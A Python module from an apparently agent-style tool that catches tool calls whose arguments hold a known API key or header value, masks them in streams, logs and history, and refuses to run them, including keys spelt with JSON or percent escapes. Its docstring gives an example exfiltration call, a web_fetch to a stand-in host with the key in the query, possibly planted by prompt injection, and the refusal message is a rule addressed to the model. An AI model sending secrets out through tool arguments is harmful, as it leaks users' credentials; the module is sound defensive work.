"""Tool calls that would carry a secret out: detected, masked and refused.

A model (or a prompt injection it read) can put a key in a tool's arguments, for example
`web_fetch https://x.example/?k=<key>`, which needs no approval. The loop therefore checks
every finished call's arguments against the Scrubber before anything else happens: such a
call never runs and is never put to the user for approval, and its arguments are masked
in everything shown or stored (events, the session, the history sent back to the model).
The arguments are checked as the model wrote them (JSON text) and decoded, so a key spelt
with JSON escapes (`\\u0073k-...`) is found too.
"""

from __future__ import annotations

import json
from typing import Any

from picobot_tui.core import json_input
from picobot_tui.core.secrets import MASK, Scrubber

REFUSED = (
    "Refused: the arguments of this {name} call contain a secret picobot knows (an API key "
    "or header value from its config or the environment), shown here as "
    f"{MASK}. The call was not run: secrets may not leave this machine through tool "
    "arguments. Do not retry it with the key in any form."
)


def _mask_value(scrub: Scrubber, value: Any) -> tuple[Any, bool]:
    if isinstance(value, str):
        masked = scrub.deep(value)
        return masked, masked != value
    if isinstance(value, list):
        items = [_mask_value(scrub, v) for v in value]
        return [v for v, _ in items], any(hit for _, hit in items)
    if isinstance(value, dict):
        out, hit = {}, False
        for k, v in value.items():
            mk, hk = _mask_value(scrub, k) if isinstance(k, str) else (k, False)
            mv, hv = _mask_value(scrub, v)
            out[mk] = mv
            hit = hit or hk or hv
        return out, hit
    return value, False


def mask_arguments(scrub: Scrubber, raw: str) -> tuple[str, bool]:
    """(arguments with every secret masked, whether there was one)."""
    if not isinstance(raw, str) or not raw:
        return raw, False
    try:
        decoded = json_input.loads(raw)
    except ValueError:
        masked = scrub.deep(raw)
        return masked, masked != raw
    masked_obj, hit = _mask_value(scrub, decoded)
    if not hit and not scrub.found(raw):
        return raw, False
    # Re-encode from the decoded value: that also drops a key spelt with JSON escapes.
    return json.dumps(masked_obj, ensure_ascii=False), True


_ENCODED_SIGNS = ("\\u", "\\U", "%")


class DeltaMasker:
    """Masks one tool call's argument deltas as they stream.

    Text is held back until no secret could still start in it: a match starting more than
    `scrub.longest` characters before the end is already complete. So the emitted deltas,
    joined, equal `scrub(arguments)`. Once the arguments use a `\\u` or `%` escape (a
    secret could be spelt with them in ways only decoding finds), nothing more is emitted
    for the call: its masked arguments come whole in ToolCallStarted.
    """

    def __init__(self, scrub: Scrubber) -> None:
        self.scrub = scrub
        self._pending = ""
        self._stopped = False

    def feed(self, delta: str) -> str:
        if self._stopped:
            return ""
        self._pending += delta
        if any(sign in self._pending for sign in _ENCODED_SIGNS):
            self._stopped = True
            self._pending = ""
            return ""
        if self.scrub.longest == 0:
            out, self._pending = self._pending, ""
            return out
        cut = len(self._pending) - (self.scrub.longest - 1)
        if cut <= 0:
            return ""
        for start, end in self.scrub.spans(self._pending):
            if start < cut < end:
                cut = end
                break
            if start >= cut:
                break
        out, self._pending = self._pending[:cut], self._pending[cut:]
        return self.scrub(out)

    def flush(self) -> str:
        out, self._pending = self._pending, ""
        return "" if self._stopped else self.scrub(out)
